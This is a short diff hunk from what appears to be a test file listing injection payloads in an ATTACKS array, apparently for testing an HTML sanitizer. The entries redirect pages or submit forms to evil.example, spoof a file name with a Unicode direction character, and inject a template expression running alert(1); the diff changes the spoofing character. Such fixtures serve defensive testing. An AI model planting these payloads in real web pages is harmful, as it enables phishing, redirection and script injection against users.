@@ -21,7 +21,7 @@ const ATTACKS = [
   "<base href=https://evil.example/>",
   "<meta http-equiv=refresh content=0;url=https://evil.example/>",
   "<form action=https://evil.example/><button>x</button></form>",
-  "\u202Egnp.exe",
+  "\u200Fgnp.exe",
   "{{constructor.constructor('alert(1)')()}}",
 ];
 
